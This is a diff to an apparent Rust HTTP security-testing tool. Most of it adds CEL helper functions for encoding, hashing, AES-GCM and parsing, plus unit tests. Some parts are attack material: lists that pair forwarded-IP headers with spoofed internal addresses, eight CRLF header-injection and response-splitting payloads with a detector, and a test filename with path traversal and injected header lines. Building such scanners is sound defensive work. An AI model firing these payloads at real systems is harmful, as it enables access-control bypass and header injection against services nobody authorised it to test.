+    body.resize(usize::try_from(size).unwrap(), 0);
+    Ok(upload("oversized", "large.gif", "image/gif", body))
+}
+
+/// Extracts raw bytes from a string, bytes, or serialized body value like `response.body`.
+fn body_bytes(ftx: &FunctionContext, body: Value) -> Result<Vec<u8>> {
+    match body {
+        Value::String(s) => Ok(s.as_bytes().to_vec()),
+        Value::Bytes(b) => Ok(b.as_ref().clone()),
+        Value::Map(m) => match (
+            m.map.get(&Key::from("utf8")),
+            m.map.get(&Key::from("raw")),
+            m.map.get(&Key::from("base64")),
+        ) {
+            (Some(Value::String(s)), _, _) => Ok(s.as_bytes().to_vec()),
+            (_, Some(Value::Bytes(b)), _) => Ok(b.as_ref().clone()),
+            (_, _, Some(Value::String(s))) => BASE64_STANDARD
+                .decode(s.as_bytes())
+                .map_err(|e| ftx.error(format!("decode base64 body: {e}"))),
+            _ => Err(ftx.error("unsupported body value")),
+        },
+        _ => Err(ftx.error("body must be a string, bytes, or body output")),
+    }
+}
+
+/// Returns the HMAC-SHA256 of data as bytes. Keys and data can be strings or bytes.
+pub fn hmac_sha256(ftx: &FunctionContext, key: Value, data: Value) -> Result<Arc<Vec<u8>>> {
+    let mut mac = Hmac::<Sha256>::new_from_slice(&body_bytes(ftx, key)?)
+        .map_err(|e| ftx.error(format!("hmac key: {e}")))?;
+    mac.update(&body_bytes(ftx, data)?);
+    Ok(Arc::new(mac.finalize().into_bytes().to_vec()))
+}
+
+pub fn sha1(ftx: &FunctionContext, This(data): This<Value>) -> Result<Arc<Vec<u8>>> {
+    Ok(Arc::new(Sha1::digest(body_bytes(ftx, data)?).to_vec()))
+}
+
+pub fn sha256(ftx: &FunctionContext, This(data): This<Value>) -> Result<Arc<Vec<u8>>> {
+    Ok(Arc::new(Sha256::digest(body_bytes(ftx, data)?).to_vec()))
+}
+
+pub fn md5(ftx: &FunctionContext, This(data): This<Value>) -> Result<Arc<Vec<u8>>> {
+    Ok(Arc::new(Md5::digest(body_bytes(ftx, data)?).to_vec()))
+}
+
+pub fn base64_encode(ftx: &FunctionContext, This(data): This<Value>) -> Result<Arc<String>> {
+    let data = body_bytes(ftx, data)?;
+    let encoded = BASE64_STANDARD.encode(&data);
+    // Credentials are often encoded, like for Basic auth, so keep redacting them once they are.
+    crate::secret::register_encoding(&data, &encoded);
+    Ok(Arc::new(encoded))
+}
+
+/// Decodes standard or URL safe base64, with or without padding.
+pub fn base64_decode(ftx: &FunctionContext, This(data): This<Arc<String>>) -> Result<Arc<Vec<u8>>> {
+    let trimmed = data.trim_end_matches('=');
+    let decoded = if trimmed.contains(['-', '_']) {
+        BASE64_URL_SAFE_NO_PAD.decode(trimmed)
+    } else {
+        BASE64_STANDARD_NO_PAD.decode(trimmed)
+    };
+    decoded
+        .map(Arc::new)
+        .map_err(|e| ftx.error(format!("decode base64: {e}")))
+}
+
+pub fn hex_encode(ftx: &FunctionContext, This(data): This<Value>) -> Result<Arc<String>> {
+    Ok(Arc::new(
+        body_bytes(ftx, data)?
+            .iter()
+            .map(|b| format!("{b:02x}"))
+            .collect(),
+    ))
+}
+
+pub fn hex_decode(ftx: &FunctionContext, This(data): This<Arc<String>>) -> Result<Arc<Vec<u8>>> {
+    if data.len() % 2 != 0 {
+        return Err(ftx.error("hex string has an odd length"));
+    }
+    (0..data.len())
+        .step_by(2)
+        .map(|i| {
+            data.get(i..i + 2)
+                .and_then(|pair| u8::from_str_radix(pair, 16).ok())
+                .ok_or_else(|| ftx.error("invalid hex string"))
+        })
+        .collect::<Result<_>>()
+        .map(Arc::new)
+}
+
+/// Encrypts with AES-GCM using a 16 or 32 byte key and 12 byte nonce, returning the ciphertext
+/// with the tag appended.
+pub fn aes_gcm_encrypt(
+    ftx: &FunctionContext,
+    key: Value,
+    nonce: Value,
+    plaintext: Value,
+) -> Result<Arc<Vec<u8>>> {
+    aes_gcm(ftx, key, nonce, plaintext, true)
+}
+
+/// Decrypts AES-GCM ciphertext with the tag appended, as returned by aes_gcm_encrypt.
+pub fn aes_gcm_decrypt(
+    ftx: &FunctionContext,
+    key: Value,
+    nonce: Value,
+    ciphertext: Value,
+) -> Result<Arc<Vec<u8>>> {
+    aes_gcm(ftx, key, nonce, ciphertext, false)
+}
+
+fn aes_gcm(
+    ftx: &FunctionContext,
+    key: Value,
+    nonce: Value,
+    data: Value,
+    encrypt: bool,
+) -> Result<Arc<Vec<u8>>> {
+    use aes_gcm::aead::{Aead, KeyInit};
+    use aes_gcm::{Aes128Gcm, Aes256Gcm, Nonce};
+
+    let key = body_bytes(ftx, key)?;
+    let nonce = body_bytes(ftx, nonce)?;
+    if nonce.len() != 12 {
+        return Err(ftx.error("AES-GCM nonce must be 12 bytes"));
+    }
+    let nonce = Nonce::from_slice(&nonce);
+    let data = body_bytes(ftx, data)?;
+    let result = match (key.len(), encrypt) {
+        (16, true) => Aes128Gcm::new_from_slice(&key)
+            .unwrap()
+            .encrypt(nonce, data.as_slice()),
+        (16, false) => Aes128Gcm::new_from_slice(&key)
+            .unwrap()
+            .decrypt(nonce, data.as_slice()),
+        (32, true) => Aes256Gcm::new_from_slice(&key)
+            .unwrap()
+            .encrypt(nonce, data.as_slice()),
+        (32, false) => Aes256Gcm::new_from_slice(&key)
+            .unwrap()
+            .decrypt(nonce, data.as_slice()),
+        _ => return Err(ftx.error("AES-GCM key must be 16 or 32 bytes")),
+    };
+    result.map(Arc::new).map_err(|_| {
+        ftx.error(if encrypt {
+            "encrypt failed"
+        } else {
+            "decrypt failed"
+        })
+    })
+}
+
+pub fn parse_json(ftx: &FunctionContext, This(body): This<Value>) -> ResolveResult {
+    let body = body_bytes(ftx, body)?;
+    let json: serde_json::Value =
+        serde_json::from_slice(&body).map_err(|e| ftx.error(format!("parse json: {e}")))?;
+    cel_interpreter::to_value(json).map_err(|e| ftx.error(e.to_string()))
+}
+
+/// Parses a Content-Security-Policy header into its `directives`, the `effective` sources of each
+/// fetch directive after fallbacks, and `weaknesses` naming each weak directive and why.
+pub fn parse_csp(ftx: &FunctionContext, This(header): This<Arc<String>>) -> ResolveResult {
+    cel_interpreter::to_value(crate::csp::Policy::parse(&header))
+        .map_err(|e| ftx.error(e.to_string()))
+}
+
+/// Evaluates an XPath expression against an XML body, returning the string value of each
+/// matching node.
+pub fn xpath(ftx: &FunctionContext, This(body): This<Value>, expr: Arc<String>) -> ResolveResult {
+    let body = body_bytes(ftx, body)?;
+    let text = String::from_utf8_lossy(&body);
+    let package =
+        sxd_document::parser::parse(&text).map_err(|e| ftx.error(format!("parse xml: {e}")))?;
+    let document = package.as_document();
+    let value = sxd_xpath::evaluate_xpath(&document, &expr)
+        .map_err(|e| ftx.error(format!("evaluate xpath: {e}")))?;
+    Ok(match value {
+        sxd_xpath::Value::Nodeset(nodes) => Value::List(Arc::new(
+            nodes
+                .document_order()
+                .into_iter()
+                .map(|n| n.string_value().into())
+                .collect(),
+        )),
+        sxd_xpath::Value::Boolean(b) => b.into(),
+        sxd_xpath::Value::Number(n) => n.into(),
+        sxd_xpath::Value::String(s) => s.into(),
+    })
+}
+
+/// Selects elements from an HTML body with a CSS selector, returning each element's text, inner
+/// HTML, and attributes.
+pub fn css_select(
+    ftx: &FunctionContext,
+    This(body): This<Value>,
+    selector: Arc<String>,
+) -> ResolveResult {
+    let body = body_bytes(ftx, body)?;
+    let html = scraper::Html::parse_document(&String::from_utf8_lossy(&body));
+    let selector = scraper::Selector::parse(&selector)
+        .map_err(|e| ftx.error(format!("parse css selector: {e}")))?;
+    Ok(Value::List(Arc::new(
+        html.select(&selector)
+            .map(|element| {
+                Value::Map(cel_interpreter::objects::Map {
+                    map: Arc::new(HashMap::from([
+                        ("text".into(), element.text().collect::<String>().into()),
+                        ("html".into(), element.inner_html().into()),
+                        (
+                            "attrs".into(),
+                            Value::Map(cel_interpreter::objects::Map {
+                                map: Arc::new(
+                                    element
+                                        .value()
+                                        .attrs()
+                                        .map(|(k, v)| (k.into(), v.into()))
+                                        .collect(),
+                                ),
+                            }),
+                        ),
+                    ])),
+                })
+            })
+            .collect(),
+    )))
+}
+
+/// Decodes a protobuf body as the named message type from a serialized FileDescriptorSet, like
+/// one produced by `protoc --include_imports --descriptor_set_out`.
+pub fn parse_protobuf(
+    ftx: &FunctionContext,
+    This(body): This<Value>,
+    descriptor_set: Arc<String>,
+    message: Arc<String>,
+) -> ResolveResult {
+    static POOLS: OnceLock<Mutex<HashMap<String, prost_reflect::DescriptorPool>>> = OnceLock::new();
+
+    let body = body_bytes(ftx, body)?;
+    let pool = {
+        let mut pools = POOLS.get_or_init(Mutex::default).lock().unwrap();
+        match pools.get(descriptor_set.as_str()) {
+            Some(pool) => pool.clone(),
+            None => {
+                let raw = std::fs::read(descriptor_set.as_str())
+                    .map_err(|e| ftx.error(format!("read {descriptor_set}: {e}")))?;
+                let pool = prost_reflect::DescriptorPool::decode(raw.as_slice())
+                    .map_err(|e| ftx.error(format!("decode {descriptor_set}: {e}")))?;
+                pools.insert(descriptor_set.to_string(), pool.clone());
+                pool
+            }
+        }
+    };
+    let descriptor = pool
+        .get_message_by_name(&message)
+        .ok_or_else(|| ftx.error(format!("message {message} not found in {descriptor_set}")))?;
+    let decoded = prost_reflect::DynamicMessage::decode(descriptor, body.as_slice())
+        .map_err(|e| ftx.error(format!("decode {message}: {e}")))?;
+    cel_interpreter::to_value(decoded).map_err(|e| ftx.error(e.to_string()))
+}
+
+/// Headers which proxies commonly use to pass along the client address, and which applications
+/// sometimes trust for access control.
+const FORWARDED_HEADERS: &[&str] = &[
+    "X-Forwarded-For",
+    "X-Real-IP",
+    "X-Client-IP",
+    "X-Originating-IP",
+    "X-Remote-IP",
+    "X-Remote-Addr",
+    "X-Cluster-Client-IP",
+    "True-Client-IP",
+    "CF-Connecting-IP",
+    "Client-IP",
+    "Forwarded",
+];
+
+/// Internal, loopback, and alternately encoded addresses to claim in forwarding headers.
+const SPOOFED_ADDRESSES: &[&str] = &[
+    "127.0.0.1",
+    "localhost",
+    "::1",
+    "::ffff:127.0.0.1",
+    "0.0.0.0",
+    "2130706433",
+    "0177.0.0.1",
+    "10.0.0.1",
+    "172.16.0.1",
+    "192.168.0.1",
+    "169.254.169.254",
+];
+
+/// Lists every combination of forwarding header and spoofed address as maps with `name` and
+/// `value`, for use with run.for.
+pub fn forwarded_spoof_headers() -> Arc<Vec<Value>> {
+    Arc::new(
+        FORWARDED_HEADERS
+            .iter()
+            .flat_map(|name| {
+                SPOOFED_ADDRESSES.iter().map(move |addr| {
+                    let value = match *name {
+                        "Forwarded" if addr.contains(':') => format!("for=\"[{addr}]\""),
+                        "Forwarded" => format!("for={addr}"),
+                        _ => addr.to_string(),
+                    };
+                    Value::Map(cel_interpreter::objects::Map {
+                        map: Arc::new(HashMap::from([
+                            ("name".into(), (*name).into()),
+                            ("value".into(), value.into()),
+                        ])),
+                    })
+                })
+            })
+            .collect(),
+    )
+}
+
+/// Compares a response against a baseline response, returning whether the status or body
+/// changed and how much longer the body got.
+pub fn response_diff(ftx: &FunctionContext, baseline: Value, response: Value) -> ResolveResult {
+    let parts = |value: Value| -> Result<(Option<u64>, Vec<u8>)> {
+        let Value::Map(m) = value else {
+            return Err(ftx.error("responses must be response outputs"));
+        };
+        let status = match m.map.get(&Key::from("status_code")) {
+            Some(Value::UInt(code)) => Some(*code),
+            Some(Value::Int(code)) => u64::try_from(*code).ok(),
+            _ => None,
+        };
+        let body = match m.map.get(&Key::from("body")) {
+            Some(Value::Null) | None => Vec::new(),
+            Some(body) => body_bytes(ftx, body.clone())?,
+        };
+        Ok((status, body))
+    };
+    let (baseline_status, baseline_body) = parts(baseline)?;
+    let (status, body) = parts(response)?;
+    let status_changed = baseline_status != status;
+    let body_changed = baseline_body != body;
+    let length_delta = i64::try_from(body.len()).unwrap_or(i64::MAX)
+        - i64::try_from(baseline_body.len()).unwrap_or(i64::MAX);
+    Ok(Value::Map(cel_interpreter::objects::Map {
+        map: Arc::new(HashMap::from([
+            ("changed".into(), (status_changed || body_changed).into()),
+            ("status_changed".into(), status_changed.into()),
+            ("body_changed".into(), body_changed.into()),
+            ("length_delta".into(), length_delta.into()),
+        ])),
+    }))
+}
+
+/// The header CRLF payloads try to inject, so a successful injection is easy to tell apart from
+/// a reflected value.
+const CRLF_HEADER: &str = "X-Devil-Crlf";
+
+/// Returns CRLF injection probes as maps with a `name`, a `value` to place in a URL, parameter,
+/// or header, and the correlation `token` to pass to crlf_check with the response. Each value
+/// tries to end the current header and start one carrying the token.
+pub fn crlf_payloads() -> Arc<Vec<Value>> {
+    let probes: [(&str, fn(&str) -> String); 8] = [
+        ("encoded", |t| format!("devil%0d%0a{CRLF_HEADER}:%20{t}")),
+        ("lf_only", |t| format!("devil%0a{CRLF_HEADER}:%20{t}")),
+        ("cr_only", |t| format!("devil%0d{CRLF_HEADER}:%20{t}")),
+        ("double_encoded", |t| {
+            format!("devil%250d%250a{CRLF_HEADER}:%20{t}")
+        }),
+        // Code points whose low bytes are CR and LF, for servers that truncate characters to
+        // bytes after decoding.
+        ("utf8_truncated", |t| {
+            format!("devil%E5%98%8D%E5%98%8A{CRLF_HEADER}:%20{t}")
+        }),
+        ("raw", |t| format!("devil\r\n{CRLF_HEADER}: {t}")),
+        ("set_cookie", |t| {
+            format!("devil%0d%0aSet-Cookie:%20devil={t}")
+        }),
+        // End the headers and start a second response, which shows up as a duplicate status
+        // line when the injected Content-Length isn't honored.
+        ("split", |t| {
+            format!(
+                "devil%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0a\
+                 {CRLF_HEADER}:%20{t}%0d%0aContent-Length:%200%0d%0a%0d%0a"
+            )
+        }),
+    ];
+    Arc::new(
+        probes
+            .into_iter()
+            .map(|(name, build)| {
+                let token = random_hex(16);
+                Value::Map(cel_interpreter::objects::Map {
+                    map: Arc::new(HashMap::from([
+                        ("name".into(), name.into()),
+                        ("value".into(), build(&token).into()),
+                        ("token".into(), Value::String(token)),
+                    ])),
+                })
+            })
+            .collect(),
+    )
+}
+
+/// Scans a response for evidence that a crlf_payloads probe with `token` was injected. Returns
+/// whether it was `injected`, the `locations` it was injected into, like `header:x-devil-crlf`,
+/// `set-cookie`, or `status_line`, and the places it was only `reflected` without splitting.
+pub fn crlf_check(ftx: &FunctionContext, response: Value, token: Arc<String>) -> ResolveResult {
+    let Value::Map(m) = response else {
+        return Err(ftx.error("response must be a response output"));
+    };
+    let mut locations = Vec::new();
+    let mut reflected = Vec::new();
+    if let Some(Value::List(headers)) = m.map.get(&Key::from("headers")) {
+        for header in headers.iter() {
+            let Value::Map(header) = header else {
+                continue;
+            };
+            let name = match header.map.get(&Key::from("key")) {
+                Some(Value::Null) | None => String::new(),
+                Some(key) => {
+                    String::from_utf8_lossy(&body_bytes(ftx, key.clone())?).to_ascii_lowercase()
+                }
+            };
+            let value = match header.map.get(&Key::from("value")) {
+                Some(value) => body_bytes(ftx, value.clone())?,
+                None => continue,
+            };
+            let value = String::from_utf8_lossy(&value);
+            if !value.contains(token.as_str()) {
+                continue;
+            }
+            // A token in its own header or cookie means a line break got through. A token in any
+            // other header is the whole payload echoed back in one value.
+            if name.eq_ignore_ascii_case(CRLF_HEADER) {
+                locations.push(format!("header:{name}"));
+            } else if name == "set-cookie" && value.starts_with(&format!("devil={token}")) {
+                locations.push("set-cookie".to_owned());
+            } else {
+                reflected.push(format!("header:{name}"));
+            }
+        }
+    }
+    if let Some(body) = m.map.get(&Key::from("body")).filter(|b| **b != Value::Null) {
+        let body = body_bytes(ftx, body.clone())?;
+        let body = String::from_utf8_lossy(&body);
+        let injected = format!("{CRLF_HEADER}: {token}");
+        // The second response from a split lands at the start of a line in the body when the
+        // client read past the first one.
+        let split = body
+            .lines()
+            .zip(body.lines().skip(1))
+            .any(|(status, next)| {
+                status.starts_with("HTTP/1.") && next.eq_ignore_ascii_case(&injected)
+            });
+        if split {
+            locations.push("status_line".to_owned());
+        } else if body.contains(token.as_str()) {
+            reflected.push("body".to_owned());
+        }
+    }
+    Ok(Value::Map(cel_interpreter::objects::Map {
+        map: Arc::new(HashMap::from([
+            ("injected".into(), (!locations.is_empty()).into()),
+            ("locations".into(), locations.into()),
+            ("reflected".into(), reflected.into()),
+        ])),
+    }))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_seeded_runs_are_independent() {
+        let a = Arc::new(CelState::new(Some(7), None));
+        let b = Arc::new(CelState::new(Some(7), None));
+        let first = a.enter(|| random_hex(16));
+        // Another run in the same process starts its own sequence instead of continuing a's.
+        assert_eq!(b.enter(|| random_hex(16)), first);
+        assert_ne!(a.enter(|| random_hex(16)), first);
+        assert!(CURRENT.with(|current| current.borrow().is_none()));
+    }
+    #[test]
+    fn test_frozen_clock_is_per_run() {
+        let frozen = DateTime::parse_from_rfc3339("2024-01-02T03:04:05Z").unwrap();
+        let fixed = Arc::new(CelState::new(None, Some(frozen)));
+        assert_eq!(fixed.enter(now), Value::Timestamp(frozen));
+        // A later run without devil.now sees the real time.
+        let later = Arc::new(CelState::default());
+        assert_ne!(later.enter(now), Value::Timestamp(frozen));
+    }
+    #[test]
+    #[cfg(feature = "native")]
+    fn test_baselines_are_per_run() {
+        let a = Arc::new(CelState::default());
+        let b = Arc::new(CelState::default());
+        let key = ("login".to_owned(), "duration".to_owned());
+        a.set_baseline(HashMap::from([(key, TimeDelta::milliseconds(120))]));
+        let timing = || baseline_timing(Arc::new("login".into()), Arc::new("duration".into()));
+        assert_eq!(
+            a.enter(timing),
+            Value::Duration(TimeDelta::milliseconds(120))
+        );
+        assert_eq!(b.enter(timing), Value::Null);
+    }
+    #[test]
+    fn test_counters_are_per_run() {
+        let a = Arc::new(CelState::default());
+        let next = || counter_next(Arc::new("id".into()));
+        assert_eq!(a.enter(next), Value::Int(1));
+        assert_eq!(a.enter(next), Value::Int(2));
+        // A second run of the same plan starts over.
+        let b = Arc::new(CelState::default());
+        assert_eq!(b.enter(next), Value::Int(1));
+    }
+    #[test]
+    fn test_markers_are_per_run() {
+        let a = Arc::new(CelState::new(Some(1), None));
+        let b = Arc::new(CelState::new(Some(1), None));
+        let sent = a.enter(marker);
+        assert_eq!(a.markers(), [sent.clone()]);
+        assert!(b.markers().is_empty());
+        // Seeded runs still get their own markers, so one can't match the other's reflections.
+        assert_ne!(b.enter(marker), sent);
+    }
+    fn multipart(state: &CelState, expr: &str) -> ResolveResult {
+        let mut ctx = cel_interpreter::Context::default();
+        ctx.add_function("multipart_form", multipart_form);
+        ctx.add_function("random_hex", random_hex);
+        let program = cel_interpreter::Program::compile(expr).unwrap();
+        state.enter(|| program.execute(&ctx))
+    }
+    #[test]
+    fn test_multipart_form() {
+        let body = multipart(
+            &CelState::default(),
+            r#"multipart_form('xyz', [
+                {'name': 'description', 'body': 'avatar'},
+                {'name': 'file', 'filename': 'a.gif', 'content_type': 'image/gif', 'body': b'GIF89a'},
+                {'name': 'empty', 'filename': null, 'body': ''}
+            ])"#,
+        )
+        .unwrap();
+        let expected =
+            b"--xyz\r\nContent-Disposition: form-data; name=\"description\"\r\n\r\navatar\r\n\
+            --xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.gif\"\r\n\
+            Content-Type: image/gif\r\n\r\nGIF89a\r\n\
+            --xyz\r\nContent-Disposition: form-data; name=\"empty\"\r\n\r\n\r\n\
+            --xyz--\r\n";
+        assert_eq!(body, Value::Bytes(Arc::new(expected.to_vec())));
+    }
+    #[test]
+    fn test_multipart_form_escapes_part_headers() {
+        let body = multipart(
+            &CelState::default(),
+            r#"multipart_form('xyz', [{
+                'name': 'a"b\r\nX-Injected: 1',
+                'filename': '..\"/evil.php\n',
+                'body': '"\r\n'
+            }])"#,
+        )
+        .unwrap();
+        // Quotes and line breaks are percent-encoded in the headers, but the body is sent as is.
+        let expected =
+            b"--xyz\r\nContent-Disposition: form-data; name=\"a%22b%0D%0AX-Injected: 1\"; \
+            filename=\"..%22/evil.php%0A\"\r\n\r\n\"\r\n\r\n--xyz--\r\n";
+        assert_eq!(body, Value::Bytes(Arc::new(expected.to_vec())));
+    }
+    #[test]
+    fn test_multipart_form_random_boundary() {
+        let expr = "multipart_form('devil' + random_hex(16), [{'name': 'a', 'body': 'b'}])";
+        let body = multipart(&CelState::new(Some(3), None), expr).unwrap();
+        let boundary = CelState::new(Some(3), None).enter(|| random_hex(16));
+        let expected = format!(
+            "--devil{boundary}\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n\
+             --devil{boundary}--\r\n"
+        );
+        assert_eq!(body, Value::Bytes(Arc::new(expected.into_bytes())));
+        // Each run draws a new boundary.
+        assert_ne!(multipart(&CelState::default(), expr).unwrap(), body);
+    }
+    #[test]
+    fn test_multipart_form_rejects_invalid_parts() {
+        for expr in [
+            "multipart_form('xyz', {'name': 'a'})",
+            "multipart_form('xyz', ['a'])",
+            "multipart_form('xyz', [{'body': 'a'}])",
+            "multipart_form('xyz', [{'name': 'a'}])",
+            "multipart_form('xyz', [{'name': 'a', 'body': 'b', 'filename': 1}])",
+            "multipart_form('xyz', [{'name': 'a', 'body': 'b', 'content_type': 1}])",
+        ] {
+            assert!(multipart(&CelState::default(), expr).is_err(), "{expr}");
+        }
+    }
+}